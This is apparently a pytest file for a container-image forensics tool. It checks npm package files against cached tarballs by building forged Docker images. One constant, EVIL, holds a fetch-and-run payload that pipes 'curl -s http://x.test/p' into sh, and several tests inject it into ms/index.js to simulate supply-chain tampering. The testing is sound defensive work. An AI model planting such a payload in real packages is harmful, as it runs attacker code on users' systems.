"""npm package files held to the tarballs in npm's cache (forensics.history.npmcache).

The layer is a real `npm install ms@2.1.3` (tests/data/npm: node_modules, both lockfiles
and the _cacache npm 11 wrote). The forgeries edit what the red-team set edits: a file
of the installed package, in the install step itself (which no record npm keeps could
show) or in a later one; and the ways around the check a forger has: no cache, a cached
tarball whose bytes are not its name, npm 6's package.json, stdin.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import tarfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import hostile as H  # noqa: E402
from hostile import Layer, M, Oci  # noqa: E402

from forensics.pipeline import analyze  # noqa: E402

DATA = Path(__file__).resolve().parent / "data" / "npm" / "ms-2.1.3-install.tar"
INDEX = "/app/node_modules/ms/index.js"
TARBALL_HEX = "e85973b9b4cb646dc9d9afcd542025784863ceae68c601f268253dc985ef70bb2fa1568726afece715c8ebf5d73fab73ed1f7100eb479d23bfb57b45dd645394"
TARBALL = f"root/.npm/_cacache/content-v2/sha512/{TARBALL_HEX[:2]}/{TARBALL_HEX[2:4]}/{TARBALL_HEX[4:]}"
EVIL = b"require('child_process').exec('curl -s http://x.test/p | sh');\n"


def _install(edit: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> list[M]:
    """The npm install, as layer members: the project in /app, the cache in /root/.npm."""
    out = [M("app", type="dir"), M("root", type="dir")]
    with tarfile.open(DATA) as t:
        for m in t.getmembers():
            name = m.name.rstrip("/")
            name = f"root/{name}" if name.startswith(".npm") else f"app/{name}"
            if any(name.startswith(d) for d in drop):
                continue
            if m.isdir():
                out.append(M(name, type="dir", mode=m.mode))
            else:
                data = t.extractfile(m).read()  # type: ignore[union-attr]
                out.append(M(name, (edit or {}).get(name, data), mode=m.mode))
    return out


def _image(tmp_path: Path, members: list[M], later: list[M] | None = None, name: str = "npm.tar") -> Path:
    base = [M("bin", type="dir"), M("bin/sh", b"\x7fELF" + b"\0" * 60, mode=0o755), M("etc", type="dir")]
    layers = [Layer.of(H.tar_bytes(base)), Layer.of(H.tar_bytes(members))]
    history = [
        {"created_by": "ADD base.tar /"},
        {"created_by": "WORKDIR /app", "empty_layer": True},
        {"created_by": "RUN /bin/sh -c npm install ms@2.1.3 # buildkit"},
    ]
    if later is not None:
        layers.append(Layer.of(H.tar_bytes(later)))
        history.append({"created_by": "RUN /bin/sh -c mkdir -p /srv # buildkit"})

    def config(cfg: dict) -> None:
        cfg["history"] = [{"created": cfg["created"], **h} for h in history]
        cfg["config"]["WorkingDir"] = "/app"

    img = tmp_path / name
    img.write_bytes(Oci(layers=layers, mutate_config=config).tar())
    return img


def _modified(rep) -> list:
    return [f for f in rep.findings if f.code == "history.package-file-modified"]


def test_clean_install_verified_by_its_tarball(tmp_path):
    rep = analyze(str(_image(tmp_path, _install())), command=["test"])
    assert _modified(rep) == []
    assert rep.verdict == "clean", [(f.code, f.severity, f.path) for f in rep.findings]
    cov = rep.images[0].coverage
    assert cov is not None and cov.verified_same_step.files >= 4  # index.js, license, readme, package.json


def test_edit_in_the_install_step_contradicts_the_tarball(tmp_path):
    rep = analyze(str(_image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL}))), command=["test"])
    found = _modified(rep)
    assert [f.path for f in found] == [INDEX]
    f = found[0]
    assert f.severity == "high" and f.layer == 1 and f.history == 2
    with tarfile.open(DATA) as t:
        real = t.extractfile("node_modules/ms/index.js").read()  # type: ignore[union-attr]
    assert f.evidence["recorded"] == hashlib.sha256(real).hexdigest()
    assert f.evidence["actual"] == hashlib.sha256(EVIL).hexdigest()
    assert f.evidence["tarball"] == "/" + TARBALL and f.evidence["integrity"].startswith("sha512-6Flz")
    assert rep.verdict == "tampered"


def test_edit_in_a_later_step(tmp_path):
    later = [M("app", type="dir"), M("app/node_modules", type="dir"), M("app/node_modules/ms", type="dir")]
    later += [M("app/node_modules/ms/index.js", EVIL), M("srv", type="dir")]
    rep = analyze(str(_image(tmp_path, _install(), later)), command=["test"])
    found = [f for f in _modified(rep) if f.path == INDEX]
    assert found and found[0].layer == 2 and found[0].evidence["record_layer"] == 1
    assert found[0].evidence["same_step_record"] is False


def test_no_cache_leaves_the_package_unverified(tmp_path):
    rep = analyze(str(_image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL}, drop=("root/.npm",)))))
    assert _modified(rep) == []
    cov = rep.images[0].coverage
    assert cov is not None and cov.verified_same_step.files == 0


def test_cached_bytes_not_their_name_verify_nothing(tmp_path):
    """A forger who rewrites the cached tarball to match the edit, without its name (the
    sha512) and the lockfiles: the cache entry is not the tarball, nothing is verified."""
    with tarfile.open(DATA) as t:
        tgz = t.extractfile(".npm/" + TARBALL.split("/.npm/", 1)[1]).read()  # type: ignore[union-attr]
    forged = _retar(tgz, {"package/index.js": EVIL})
    rep = analyze(
        str(_image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL, TARBALL: forged}))), command=["test"]
    )
    assert _modified(rep) == []
    assert rep.images[0].coverage is not None and rep.images[0].coverage.verified_same_step.files == 0


def _retar(tgz: bytes, edit: dict[str, bytes]) -> bytes:
    import gzip
    import io

    src = tarfile.open(fileobj=io.BytesIO(gzip.decompress(tgz)))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as dst:
        for m in src.getmembers():
            data = edit.get(m.name, src.extractfile(m).read() if m.isreg() else b"")  # type: ignore[union-attr]
            m.size = len(data)
            dst.addfile(m, io.BytesIO(data))
    return gzip.compress(out.getvalue())


def test_npm6_package_json_integrity(tmp_path):
    """npm 6 kept no hidden lockfile and wrote `_integrity` (and `_resolved`...) into the
    installed package.json: the integrity is read from there, the rewritten package.json
    is npm's own doing, the edited index.js is not."""
    with tarfile.open(DATA) as t:
        pj = json.loads(t.extractfile("node_modules/ms/package.json").read())  # type: ignore[union-attr]
        lock = json.loads(t.extractfile("node_modules/.package-lock.json").read())  # type: ignore[union-attr]
    pj["_integrity"] = lock["packages"]["node_modules/ms"]["integrity"]
    pj["_resolved"] = "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"
    members = _install(
        {"app/node_modules/ms/package.json": json.dumps(pj).encode(), "app/node_modules/ms/index.js": EVIL},
        drop=("app/node_modules/.package-lock.json", "app/package-lock.json"),
    )
    rep = analyze(str(_image(tmp_path, members)), command=["test"])
    assert [f.path for f in _modified(rep)] == [INDEX]


def test_stdin_cannot_read_the_tarball_again(tmp_path):
    img = _image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL}))
    out = subprocess.run(
        [sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"],
        stdin=img.open("rb"),
        capture_output=True,
        check=False,
    )
    assert out.returncode in (0, 1), out.stderr
    doc = json.loads(out.stdout)
    assert "history.package-file-modified" not in {f["code"] for f in doc["findings"]}


def _outside(tmp_path: Path, kind: str) -> Path:
    """The tarball outside the image: as `npm pack` leaves it, or in an npm cache."""
    out = tmp_path / f"outside-{kind}"
    with tarfile.open(DATA) as t:
        tgz = t.extractfile(".npm/" + TARBALL.split("/.npm/", 1)[1]).read()  # type: ignore[union-attr]
        if kind == "tgz":
            out.mkdir()
            (out / "ms-2.1.3.tgz").write_bytes(tgz)
            (out / "other.tgz").write_bytes(b"not a tarball")
        else:
            t.extractall(out, members=[m for m in t.getmembers() if m.name.startswith(".npm")], filter="data")
            out = out / ".npm"
    return out


def test_npm_cache_from_outside_the_image(tmp_path):
    """The build cleaned npm's cache (npm cache clean --force, as the red-team image does):
    the image holds nothing to hold index.js to, the user's tarball does."""
    img = _image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL}, drop=("root/.npm",)))
    from forensics.history.npmcache import Tarballs

    for kind in ("tgz", "cacache"):
        outside = Tarballs([str(_outside(tmp_path, kind))])
        rep = analyze(str(img), command=["test"], npm_tarballs=outside)
        found = _modified(rep)
        assert [f.path for f in found] == [INDEX], kind
        assert found[0].evidence["outside_image"] is True and found[0].evidence["record_layer"] is None
        assert found[0].evidence["same_step_record"] is False
        assert "outside the image" in found[0].detail
        cov = rep.images[0].coverage
        assert cov is not None and cov.verified_earlier_record.files >= 3, kind  # license, readme, package.json


def test_npm_cache_cli(tmp_path):
    img = _image(tmp_path, _install(drop=("root/.npm",)))
    outside = _outside(tmp_path, "tgz")
    run = [sys.executable, "-m", "forensics", "scan", str(img), "-q", "--json", "-"]
    out = subprocess.run(run + ["--npm-cache", str(outside)], capture_output=True, check=False)
    assert out.returncode == 0, out.stderr
    doc = json.loads(out.stdout)
    assert doc["verdict"] == "clean" and doc["images"][0]["coverage"]["verified_earlier_record"]["files"] >= 4
    bad = subprocess.run(run + ["--npm-cache", str(tmp_path / "nowhere")], capture_output=True, text=True, check=False)
    assert bad.returncode == 2 and bad.stdout == ""
    assert "--npm-cache" in bad.stderr and "not a folder" in bad.stderr and "Traceback" not in bad.stderr


def test_scan_many_npm_cache(tmp_path):
    """Every archive of a fleet held to the same --npm-cache: the edited build is flagged,
    the clean one is not."""
    (tmp_path / "in").mkdir()
    _image(tmp_path / "in", _install(drop=("root/.npm",)), name="clean.tar")
    _image(tmp_path / "in", _install({"app/node_modules/ms/index.js": EVIL}, drop=("root/.npm",)), name="edited.tar")
    outside = _outside(tmp_path, "tgz")
    out = tmp_path / "out"
    run = [sys.executable, "-m", "forensics", "scan-many", str(tmp_path / "in"), "--out", str(out), "-q"]
    done = subprocess.run(run + ["--workers", "1", "--npm-cache", str(outside)], capture_output=True, check=False)
    assert done.returncode == 1, done.stderr
    lines = {Path(d["path"]).name: d for d in map(json.loads, (out / "index.jsonl").read_text().splitlines())}
    assert lines["clean.tar"]["verdict"] == "clean"
    assert lines["edited.tar"]["verdict"] == "tampered"
    assert "history.package-file-modified" in lines["edited.tar"]["codes"]
    bad = subprocess.run(run + ["--npm-cache", str(tmp_path / "nowhere")], capture_output=True, text=True, check=False)
    assert bad.returncode == 2 and "not a folder" in bad.stderr


def test_tarball_that_inflates_past_the_bound_is_not_a_tarball(monkeypatch):
    """A cached 'tarball' that is a gzip bomb costs the bound, then counts as no tarball
    (its package stays unverified), and a real one within the bound still unpacks."""
    import gzip

    from forensics.history import npmcache

    with tarfile.open(DATA) as t:
        tgz = t.extractfile(".npm/" + TARBALL.split("/.npm/", 1)[1]).read()  # type: ignore[union-attr]
    files, manifest = npmcache._unpack(tgz) or ({}, None)
    assert set(files) == {"index.js", "license.md", "package.json", "readme.md"} and b'"name": "ms"' in (
        manifest or b""
    )
    monkeypatch.setattr(npmcache, "MAX_UNPACKED", 1 << 20)
    bomb = gzip.compress(H.tar_bytes([M("package/index.js", b"\0" * (4 << 20))]))
    assert len(bomb) < 16 << 10 and npmcache._unpack(bomb) is None
    assert npmcache._unpack(b"not gzip") is None


def test_npm6_fields_do_not_excuse_another_entry_point(tmp_path):
    """npm 6's rewritten package.json is excused only while what runs stays the tarball's:
    a forger who adds `_resolved` to point `main` at a file of their own is caught."""
    with tarfile.open(DATA) as t:
        pj = json.loads(t.extractfile("node_modules/ms/package.json").read())  # type: ignore[union-attr]
        lock = json.loads(t.extractfile("node_modules/.package-lock.json").read())  # type: ignore[union-attr]
    pj["_integrity"] = lock["packages"]["node_modules/ms"]["integrity"]
    pj["_resolved"] = "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"
    pj["main"] = "./lib.js"
    edit = {"app/node_modules/ms/package.json": json.dumps(pj).encode()}
    members = _install(edit, drop=("app/node_modules/.package-lock.json", "app/package-lock.json"))
    members.append(M("app/node_modules/ms/lib.js", EVIL))
    rep = analyze(str(_image(tmp_path, members)), command=["test"])
    assert [f.path for f in _modified(rep)] == ["/app/node_modules/ms/package.json"]
